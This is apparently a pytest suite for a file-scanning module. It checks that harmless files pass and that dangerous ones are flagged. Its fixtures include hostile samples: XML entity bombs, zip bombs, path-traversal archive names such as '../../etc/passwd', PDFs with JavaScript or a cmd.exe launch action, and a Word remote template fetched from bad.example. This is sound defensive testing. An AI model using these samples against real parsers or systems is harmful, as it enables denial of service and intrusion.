"""Files are told by their content: what they are, what in them may act, what would burst; harmless ones are left in peace."""

import io
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pytest
import pyzipper
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from noroshi.paper.pdf import pdf
from noroshi.vault.looking import look
from noroshi.vocabulary import FormKind
from noroshi.vocabulary.files import FileFinding as F
from noroshi.vocabulary.files import FileSort as S
from tests.paper_filled import paper

MB = 1024 * 1024
BOMB = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


def found(content: bytes, name: str = "file", *, is_specimen: bool = False) -> tuple[S, set[F]]:
    told = look(io.BytesIO(content), name, is_specimen=is_specimen)
    return told.sort, set(told.findings)


def zipped(entries: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", kind) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def word(more: dict[str, bytes] | None = None) -> bytes:
    """A document as python-docx writes it, with further parts put in."""
    made = io.BytesIO()
    docx.Document().save(made)
    with zipfile.ZipFile(made) as plain:
        return zipped({name: plain.read(name) for name in plain.namelist()} | (more or {}))


def sheet() -> bytes:
    made = io.BytesIO()
    openpyxl.Workbook().save(made)
    return made.getvalue()


def picture() -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (4, 4)).save(made, "PNG")
    return made.getvalue()


def written(change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def scripted(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.root_object[NameObject("/OpenAction")] = action


def launching(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = action


def compound(*streams: str) -> bytes:
    """A compound file with a directory that names these streams."""
    entries = b"".join(
        (name.encode("utf-16-le") + b"\0\0").ljust(64, b"\0") + (len(name) * 2 + 2).to_bytes(2, "little") + bytes(62)
        for name in streams
    )
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + entries


@pytest.mark.parametrize(
    ("content", "name", "sort"),
    [
        (pdf(paper(FormKind.REPORT)), "様式.pdf", S.PDF),
        (word(), "別紙.docx", S.OFFICE),
        (sheet(), "一覧.XLSX", S.OFFICE),
        (picture(), "画面.png", S.IMAGE),
        (zipped({"a.txt": b"x" * 1000}), "記録.zip", S.ARCHIVE),
        ("日時,送信元\r\n11/21,203.0.113.7\r\n".encode("cp932"), "通信記録.csv", S.TEXT),
        ("件名の控え\n".encode("iso2022_jp"), "控え.txt", S.TEXT),
        (b"From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\nbody", "message.eml", S.MAIL),
        (b'<?xml version="1.0"?><a>1</a>', "data.xml", S.TEXT),
        (b"<!DOCTYPE html><html><body>x</body></html>", "page.html", S.TEXT),
        (b"\x80\x81\x00\xff" * 50, "dump.bin", S.UNKNOWN),
    ],
)
def test_harmless_files_are_known_and_nothing_is_said_against_them(content: bytes, name: str, sort: S) -> None:
    assert found(content, name) == (sort, set())


@pytest.mark.parametrize(
    ("content", "name", "sort", "findings"),
    [
        (b"MZ" + bytes(200), "請求書.pdf", S.PROGRAM, {F.NAME_DIFFERS, F.PROGRAM}),
        (b"MZ" + bytes(200), "tool.exe", S.PROGRAM, {F.PROGRAM}),
        (b"MZ" + bytes(200), "no_extension", S.PROGRAM, {F.PROGRAM}),
        (b"Write-Host x", "do.ps1", S.TEXT, {F.PROGRAM}),
        (b"#!/bin/sh\nrm x\n", "readme.txt", S.TEXT, {F.PROGRAM}),
        (b"L\0\0\0\x01\x14\x02\0" + bytes(80), "書類.lnk", S.SHORTCUT, {F.PROGRAM}),
        (picture(), "photo.docx", S.IMAGE, {F.NAME_DIFFERS}),
        (word(), "notes.txt", S.OFFICE, {F.NAME_DIFFERS}),
        (bytes(20) + pdf(paper(FormKind.REPORT, {})), "shifted.pdf", S.PDF, set()),
    ],
)
def test_what_it_is_does_not_follow_from_its_name(content: bytes, name: str, sort: S, findings: set[F]) -> None:
    assert found(content, name) == (sort, findings)


@pytest.mark.parametrize(
    ("content", "finding"),
    [
        (word({"word/vbaProject.bin": b"x"}), F.MACROS),
        (word({"word/embeddings/oleObject1.bin": b"x"}), F.EMBEDDED),
        (
            word(
                {
                    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" '
                    b'Type="http://x/attachedTemplate" Target="http://bad.example/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            F.REMOTE,
        ),
        (word({"word/theme/x.xml": BOMB.encode()}), F.XML_BOMB),
        (compound("Root Entry", "Macros", "VBA"), F.MACROS),
        (compound("Root Entry", "\x01Ole10Native"), F.EMBEDDED),
        (compound("EncryptedPackage", "EncryptionInfo"), F.LOCKED),
    ],
    ids=["macros", "embedded", "remote template", "xml bomb", "old macros", "old package", "encrypted"],
)
def test_office_documents_that_act_are_told(content: bytes, finding: F) -> None:
    assert found(content)[1] == {finding}


def test_a_link_in_a_document_is_no_call_outside() -> None:
    rels = b'<Relationships><Relationship Type="http://x/hyperlink" Target="http://a.example" TargetMode="External"/></Relationships>'

    assert found(word({"word/_rels/document2.xml.rels": rels}))[1] == set()


@pytest.mark.parametrize(
    ("content", "findings"),
    [
        (written(scripted), {F.ACTIVE_PDF}),
        (written(launching), {F.ACTIVE_PDF}),
        (written(lambda writer: writer.add_attachment("a.exe", b"MZ")), {F.EMBEDDED}),
        (written(lambda writer: writer.encrypt("secret")), {F.LOCKED}),
        (b"%PDF-1.4\n1 0 obj<</S/J#61va#53cript/JS(x)>>endobj\ntrailer<<>>", {F.ACTIVE_PDF, F.UNREADABLE}),
        (b"%PDF-1.7\n" + b"garbage " * 100, {F.UNREADABLE}),
    ],
    ids=["script", "launch", "attachment", "password", "hidden name in a broken file", "garbage"],
)
def test_pdf_that_acts_is_told(content: bytes, findings: set[F]) -> None:
    assert found(content, "a.pdf")[1] == findings


def test_a_script_under_an_escaped_name_is_found() -> None:
    plain = written(scripted)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
    names = ArrayObject([TextStringObject("x"), DictionaryObject({NameObject("/S"): NameObject("/JavaScript")})])
    writer.root_object[NameObject("/Hidden")] = names
    made = io.BytesIO()
    writer.write(made)

    assert F.ACTIVE_PDF in found(made.getvalue().replace(b"/JavaScript", b"/J#61vaScript"))[1]


@pytest.mark.parametrize(
    ("content", "findings"),
    [
        (zipped({"zeros": bytes(200 * MB)}), {F.BOMB}),
        (zipped({f"{number}": b"" for number in range(10_001)}), {F.BOMB}),
        (zipped({"inner.zip": zipped({"a": b"x"})}), {F.NESTED}),
        (zipped({"picture.png": zipped({"a": b"x"})}), {F.NESTED}),
        (zipped({"../../etc/passwd": b"x"}), {F.STRAY_NAMES}),
        (zipped({"C:\\Windows\\x": b"x"}), {F.STRAY_NAMES}),
        (zipped({"報告.pdf.exe": b"MZ"}), {F.PROGRAM}),
        (zipped({"data.xml": BOMB.encode()}), {F.XML_BOMB}),
        (b"7z\xbc\xaf\x27\x1c" + bytes(100), {F.OTHER_ARCHIVE}),
        (b"Rar!\x1a\x07\x01\x00" + bytes(100), {F.OTHER_ARCHIVE}),
        (zipped({"a": b"x" * 5000})[:-30], {F.UNREADABLE}),
    ],
    ids=["large", "many", "within", "within, renamed", "dots", "drive", "program", "xml", "7z", "rar", "cut off"],
)
def test_archives_that_burst_or_hide_are_told(content: bytes, findings: set[F]) -> None:
    assert found(content)[1] == findings


def test_a_zip_that_lies_about_its_size_is_counted_by_what_comes_out() -> None:
    honest = zipped({"zeros": bytes(300 * MB)})
    size = (300 * MB).to_bytes(4, "little")
    liar = honest.replace(size, (1000).to_bytes(4, "little"))

    assert honest != liar
    assert found(liar)[1] & {F.BOMB, F.UNREADABLE}


def test_an_encrypted_archive_says_that_nobody_looked_into_it() -> None:
    made = io.BytesIO()
    with pyzipper.AESZipFile(made, "w", encryption=pyzipper.WZ_AES) as closed:
        closed.setpassword(b"x")
        closed.writestr("a.txt", b"x")

    assert found(made.getvalue())[1] == {F.LOCKED}


@pytest.mark.parametrize("content", [BOMB.encode(), BOMB.encode("utf-16")])
def test_xml_that_defines_entities_is_told(content: bytes) -> None:
    assert F.XML_BOMB in found(content, "a.xml")[1]


def test_a_specimen_is_told_by_its_first_bytes_and_never_looked_into() -> None:
    assert found(word({"word/vbaProject.bin": b"x"}), "a.docm", is_specimen=True)[1] == set()
    assert found(b"MZ" + bytes(200), "a.pdf", is_specimen=True) == (S.PROGRAM, set())


def test_what_makes_a_reader_fail_is_told_as_unreadable() -> None:
    """A loop of objects, and a nesting deeper than any reader goes."""
    loop = written(
        lambda writer: writer.root_object.__setitem__(NameObject("/Loop"), writer.root_object.indirect_reference)
    )
    deep = (
        b"%PDF-1.4\n1 0 obj"
        + b"[" * 50_000
        + b"]" * 50_000
        + b"endobj\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF"
    )

    assert found(loop)[1] == set()
    assert found(deep)[1] == {F.UNREADABLE}
